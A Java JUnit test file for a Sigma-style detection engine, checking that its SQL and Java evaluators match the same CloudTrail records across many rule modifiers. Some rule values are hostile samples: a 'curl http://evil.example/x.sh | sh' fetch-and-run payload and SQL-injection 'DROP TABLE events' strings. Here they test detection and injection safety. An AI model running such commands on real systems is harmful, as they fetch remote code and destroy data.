package dev.cloudsift.detect;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Every modifier and condition form, evaluated by the SQL compiler and by the Java evaluator over the same case:
 * both must match exactly the expected rows (so agreement on "nothing" cannot pass by accident).
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class SqlAndJavaEvaluationTest {
    private IngestedCase ingested;
    private DetectionRunner runner;
    private RuleLoader loader;

    @BeforeAll
    void createCase(@TempDir Path directory) throws Exception {
        ingested = IngestedCase.of(directory, Records.ALL);
        runner = new DetectionRunner(ingested.connection(), CaseTables.read(ingested.connection()));
        loader = new RuleLoader(FieldMappings.builtIn(), new Placeholders(Map.of(
                "office_ips", List.of("10.1.2.3", "192.168.*"), "office_networks", List.of("10.1.0.0/16", "192.168.10.0/24"))));
    }

    @AfterAll
    void close() throws Exception {
        ingested.close();
    }

    static Stream<Arguments> cases() {
        return Stream.of(
                rule("plain value is case-insensitive", "sel: {eventName: consolelogin}", 1, 7),
                rule("cased keeps case", "sel: {eventName|cased: consolelogin}"),
                rule("cased matches exact case", "sel: {eventName|cased: ConsoleLogin}", 1, 7),
                rule("star wildcard", "sel: {eventName: 'Create*Key'}", 2),
                rule("question mark wildcard", "sel: {eventName: 'Put?ucketVersioning'}", 5),
                rule("escaped wildcard and LIKE characters are literal",
                        "sel: {userAgent: '50%_off\\path\\*star ''quoted'''}", 8),
                rule("LIKE characters never act as wildcards", "sel: {userAgent|contains: '%_off'}", 8),
                rule("quote in a value is data", "sel: {userAgent|contains: \"'quoted'\"}", 8),
                rule("contains", "sel: {userAgent|contains: 'S3 Browser'}", 2),
                rule("SQL in a value is data", "sel: {userAgent: \"x'); DROP TABLE events; --\"}"),
                rule("SQL in a regex is data", "sel: {userAgent|re: \"'quoted'|x'; DROP TABLE events; --\"}", 8),
                rule("SQL in a base64 value is data", "sel: {userAgent|base64offset|contains: \"'; DROP TABLE events; --\"}"),
                rule("startswith", "sel: {userAgent|startswith: 'aws-cli'}", 2, 6, 9, 10),
                rule("endswith", "sel: {userIdentity.arn|endswith: ':root'}", 7),
                rule("contains all", "sel: {userAgent|contains|all: ['aws-cli', 'S3 Browser']}", 2),
                rule("list of values is or", "sel: {eventName: [ListBuckets, AssumeRole]}", 4, 10),
                rule("list of maps is or", "sel: [{eventName: ListBuckets}, {userAgent: TruffleHog}]", 4, 5),
                rule("regex", "sel: {userIdentity.arn|re: '.+:assumed-role/aws:.+'}", 4),
                rule("regex is case-sensitive by default", "sel: {userAgent|re: '^trufflehog$'}"),
                rule("regex i flag", "sel: {userAgent|re|i: '^trufflehog$'}", 5),
                rule("regex m flag", "sel: {errorMessage|re|m: '^User is'}", 4),
                rule("regex without m anchors at the start", "sel: {errorMessage|re: '^User is'}"),
                rule("regex s flag", "sel: {errorMessage|re|s: 'line1.User'}", 4),
                rule("regex without s stops at newlines", "sel: {errorMessage|re: 'line1.User'}"),
                rule("regex lookahead falls back to Java", "sel: {eventName|re: '^Create(?=Access)'}", 2),
                rule("base64", "sel: {requestParameters.userData|base64: \"#!/bin/bash\\ncurl http://evil.example/x.sh | sh\"}", 6),
                rule("base64offset contains", "sel: {requestParameters.userData|base64offset|contains: 'evil.example'}", 6),
                rule("utf16le base64offset", "sel: {requestParameters.parameters.commands|utf16le|base64offset|contains: 'whoami'}", 9),
                rule("wide base64offset", "sel: {requestParameters.parameters.commands|wide|base64offset|contains: 'whoami'}", 9),
                // UTF-16BE "whoami" is the UTF-16LE " whoami" shifted by one byte, and base64offset covers every byte offset
                rule("utf16be base64offset finds byte-shifted little-endian text", "sel: {requestParameters.parameters.commands|utf16be|base64offset|contains: 'whoami'}", 9),
                rule("base64offset of absent text", "sel: {requestParameters.parameters.commands|utf16le|base64offset|contains: 'ipconfig'}"),
                rule("utf16 without base64 is a byte string only Java can test", "keywords: ['|utf16le': 'x']"),
                rule("windash", "sel: {requestParameters.commandLine|windash|contains: ' -enc '}", 6),
                rule("cidr v4", "sel: {sourceIPAddress|cidr: 10.0.0.0/8}", 2, 5),
                rule("cidr v4 narrow", "sel: {sourceIPAddress|cidr: 192.168.10.16/28}", 7),
                rule("cidr v6", "sel: {sourceIPAddress|cidr: '2001:db8::/32'}", 4),
                rule("exists false", "sel: {userAgent|exists: false}", 11),
                rule("exists true on a JSON path", "sel: {requestParameters.userName|exists: true}", 2, 3),
                rule("gt on a JSON number", "sel: {requestParameters.durationSeconds|gt: 3600}", 10),
                rule("lte on a JSON number", "sel: {requestParameters.durationSeconds|lte: 43200}", 10),
                rule("lt on a number written as a string", "sel: {requestParameters.maxResults|lt: 51}", 10),
                rule("gte", "sel: {requestParameters.maxResults|gte: 50.5}"),
                rule("fieldref endswith", "sel: {userIdentity.arn|fieldref|endswith: requestParameters.userName}", 3),
                rule("fieldref equals", "sel: {userIdentity.userName|fieldref: requestParameters.userName}", 3),
                rule("fieldref contains", "sel: {userIdentity.arn|fieldref|contains: responseElements.accessKey.userName}"),
                rule("expand placeholders", "sel: {sourceIPAddress|expand: '%office_ips%'}", 2, 7),
                rule("expand feeds cidr", "sel: {sourceIPAddress|expand|cidr: '%office_networks%'}", 2, 7),
                rule("null is missing", "sel: {eventSource: kms.amazonaws.com, userAgent: null}", 11),
                rule("empty string", "sel: {userAgent: ''}", 12),
                rule("boolean written in the rule matches the log text", "sel: {readOnly: false, eventName: ConsoleLogin}", 1, 7),
                rule("number written in the rule matches the log text", "sel: {eventVersion: 1.09}", 4),
                rule("list of values on one JSON field is or", "sel: {requestParameters.userName: [carol, mallory]}", 2, 3),
                rule("list of prefixes on one JSON field under not keeps records without the field",
                        "sel: {eventSource: [iam.amazonaws.com, ec2.amazonaws.com]}\n  filter: {requestParameters.userName|startswith: [mal, x]}",
                        "sel and not filter", 3, 6, 12),
                rule("nested JSON field", "sel: {requestParameters.VersioningConfiguration.Status: suspended}", 5),
                rule("whole JSON column contains", "sel: {requestParameters|contains: 'Suspended'}", 5),
                rule("flattened session issuer", "sel: {userIdentity.sessionContext.sessionIssuer.type: Role}", 4),
                rule("string boolean from JSON", "sel: {userIdentity.sessionContext.attributes.mfaAuthenticated: 'false'}", 4),
                rule("keyword", "keywords: ['S3 Browser']", 2),
                rule("keyword with wildcard", "keywords: ['Truffle*og']", 5),
                rule("common events column", "sel: {principal|endswith: '/bob'}", 2, 5),
                rule("not", "sel: {eventSource: signin.amazonaws.com}\n  filter: {userIdentity.type: Root}", "sel and not filter", 1),
                rule("not keeps records without the field", "sel: {eventSource: kms.amazonaws.com}\n  filter: {userAgent: x}", "sel and not filter", 11),
                rule("1 of selection wildcard", "selection_a: {eventName: ListBuckets}\n  selection_b: {eventName: AssumeRole}", "1 of selection_*", 4, 10),
                rule("all of selection wildcard", "selection_a: {eventSource: sts.amazonaws.com}\n  selection_b: {readOnly: true}", "all of selection_*", 8, 10),
                rule("1 of them", "a: {eventName: ListBuckets}\n  b: {eventName: AssumeRole}", "1 of them", 4, 10),
                rule("all of them", "a: {eventSource: sts.amazonaws.com}\n  b: {eventName: AssumeRole}", "all of them", 10),
                rule("them skips underscore identifiers", "a: {eventName: AssumeRole}\n  _b: {eventName: ListBuckets}", "1 of them", 10),
                rule("2 of them", "a: {eventSource: sts.amazonaws.com}\n  b: {eventName: AssumeRole}\n  c: {readOnly: true}", "2 of them", 8, 10),
                rule("and binds tighter than or", "a: {eventName: ListBuckets}\n  b: {eventName: AssumeRole}\n  c: {readOnly: false}", "a or b and c", 4),
                rule("parentheses", "a: {eventName: ListBuckets}\n  b: {eventName: AssumeRole}\n  c: {readOnly: true}", "(a or b) and c", 4, 10),
                rule("not binds tighter than and", "a: {eventSource: signin.amazonaws.com}\n  b: {errorMessage|exists: true}", "not a and b", 4),
                rule("not of a group", "a: {eventSource: signin.amazonaws.com}\n  filter_x: {userAgent: Mozilla/5.0}\n  filter_y: {eventName: nothing}", "a and not 1 of filter_*"),
                rule("condition list is or", "a: {eventName: ListBuckets}\n  b: {eventName: AssumeRole}", "[a, b]", 4, 10));
    }

    private static Arguments rule(String name, String detection, long... rows) {
        return rule(name, detection, "1 of them", rows);
    }

    private static Arguments rule(String name, String detection, String condition, long... rows) {
        String yaml = "title: " + name + "\nlogsource: {product: aws, service: cloudtrail}\ndetection:\n  "
                + detection + "\n  condition: " + (condition.startsWith("[") ? condition : "'" + condition + "'")
                + "\n";
        return Arguments.of(name, yaml, Arrays.stream(rows).boxed().toList());
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("cases")
    void sqlAndJavaMatchTheSameRows(String name, String yaml, List<Long> expected) throws Exception {
        List<LoadedRule> rules = loader.loadText(name, yaml);
        assertThat(rules).hasSize(1);
        assertThat(rules.get(0).status()).as(String.valueOf(rules.get(0).reason())).isEqualTo(LoadedRule.Status.OK);
        Rule.Detection rule = (Rule.Detection) rules.get(0).rule();

        List<Long> bySql = runner.matchingRows(rule, false);
        List<Long> byJava = runner.matchingRows(rule, true);

        List<Long> expectedRows = expected.stream().map(record -> ingested.row("e-" + record)).sorted().toList();
        assertThat(byJava).as("Java evaluator").containsExactlyElementsOf(expectedRows);
        assertThat(bySql).as("SQL evaluator (or its Java fallback)").containsExactlyElementsOf(expectedRows);
    }

    @org.junit.jupiter.api.Test
    void hostileRuleValuesLeaveTheCaseIntact() throws Exception {
        try (var statement = ingested.connection().createStatement();
             var rows = statement.executeQuery("SELECT count(*) FROM events")) {
            rows.next();
            assertThat(rows.getLong(1)).isEqualTo(Records.ALL.size());
        }
    }

    @ParameterizedTest(name = "{0}")
    @org.junit.jupiter.params.provider.CsvSource(delimiter = ';', value = {
            "regex look-ahead ; sel: {eventName|re: '^Create(?=Access)'} ; JAVA",
            "IPv6 CIDR ; sel: {sourceIPAddress|cidr: '2001:db8::/32'} ; SQL",
            "IPv4 CIDR ; sel: {sourceIPAddress|cidr: '10.0.0.0/8'} ; SQL",
            "plain regex ; sel: {eventName|re: '^Create'} ; SQL",
            "base64offset ; sel: {requestParameters.userData|base64offset|contains: 'evil'} ; SQL"})
    void evaluatesInJavaOnlyWhatSqlCannotExpress(String name, String detection, DetectionRunner.Mode mode)
            throws Exception {
        Rule.Detection rule = (Rule.Detection) loader.loadText(name, "title: t\nlogsource: {product: aws, service: "
                + "cloudtrail}\ndetection:\n  " + detection + "\n  condition: sel\n").get(0).rule();

        assertThat(runner.run(-2, rule, false)).isEqualTo(mode);
    }

    private static final class Arrays {
        static java.util.stream.LongStream stream(long[] values) {
            return java.util.Arrays.stream(values);
        }
    }
}
